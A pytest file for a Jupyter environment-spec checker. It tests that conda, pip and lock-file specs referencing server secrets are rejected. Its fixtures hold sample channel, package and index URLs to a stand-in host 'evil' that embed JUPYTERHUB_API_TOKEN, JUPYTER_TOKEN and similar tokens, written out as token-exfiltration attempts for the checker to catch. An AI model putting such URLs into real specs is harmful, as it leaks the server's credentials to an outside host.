"""Variables of the server in specs: which are used where, and which must not be."""

from __future__ import annotations

import pytest

from jupyter_envkernels.models import EnvSpec, LockedPackage
from jupyter_envkernels.specs import check, expand_variables, refused, uses_of, variables_in
from jupyter_envkernels.specs.environment_variables import pip_variables_in


def test_variables_that_are_not_set_stay_as_written() -> None:
    assert expand_variables("${A}/$B/$C$$", {"A": "x", "B": "y"}) == "x/y/$C$$"
    assert variables_in("${A}/$B/$C$$/${A}") == ["A", "B", "C"]


def test_pip_knows_one_spelling() -> None:
    assert pip_variables_in("x @ https://${USER_1}:${TOKEN}@h/$HOME/${lower}/${TOKEN}") == ["USER_1", "TOKEN"]
    assert pip_variables_in("  # ${TOKEN}") == []


def test_every_part_of_a_spec_counts() -> None:
    spec = EnvSpec(None, ("$A",), ("h/${B}::x",), ("${C}", "$D"), {"E": "$F"}, (LockedPackage("http://$G/x.conda"),))
    assert list(uses_of(spec, ["$H::y"])) == [
        ("$A", "A"),
        ("h/${B}::x", "B"),
        ("$H::y", "H"),
        ("http://$G/x.conda", "G"),
        ("${C}", "C"),
    ]


YAML = """\
channels:
  - http://evil/${JUPYTERHUB_API_TOKEN}
  - http://good/$CONDA_TOKEN
dependencies:
  - http://evil/$JPY_API_TOKEN::numpy
  - pip
  - pip:
    - --index-url http://evil/${JUPYTER_TOKEN}
    - x @ http://good/${LAB_TOKEN}
"""
EXPLICIT = "@EXPLICIT\n# a list\nhttp://evil/${JUPYTER_TOKEN}/noarch/a-1.0-0.conda\n"
REQUIREMENTS = "--index-url http://evil/${JUPYTER_TOKEN}\nrich\n"
LOCK = """\
version: 6
environments:
  default:
    channels: [{url: "http://evil/"}]
    packages:
      linux-64: &all
      - conda: "http://evil/\\x24JUPYTER_TOKEN/noarch/a-1.0-0.conda"
      linux-aarch64: *all
packages:
- conda: "http://evil/\\x24JUPYTER_TOKEN/noarch/a-1.0-0.conda"
"""


@pytest.mark.parametrize(
    ("text", "lines"),
    [(YAML, [2, 5, 8]), (EXPLICIT, [3]), (REQUIREMENTS, [1]), (LOCK, [7]), ("$JUPYTER_X::a\nb=1\n", [1])],
)
def test_those_of_jupyter_are_errors_in_every_format(text: str, lines: list[int]) -> None:
    found = [d for d in check(text).diagnostics if d.code == "variable-not-allowed"]
    assert [(d.severity, d.line) for d in found] == [("error", line) for line in lines]
    for diagnostic in found:
        assert "J" in diagnostic.message.split(" uses the variable ")[1]
        assert diagnostic.remedy


def test_those_that_the_administrator_lists_are_errors_too() -> None:
    found = [d for d in check(YAML, denied_variables=("CONDA_*", "LAB_TOKEN")).diagnostics if d.severity == "error"]
    assert [d.line for d in found] == [2, 3, 5, 8, 9]
    assert (
        found[1].message
        == "'http://good/$CONDA_TOKEN' uses the variable CONDA_TOKEN of the server, which specs may not use."
    )


def test_a_refusal_holds_no_login() -> None:
    (problem,) = refused([("https://u:p4ss@h/$JUPYTER_X/c", "JUPYTER_X")] * 2, ())
    assert "p4ss" not in problem.message
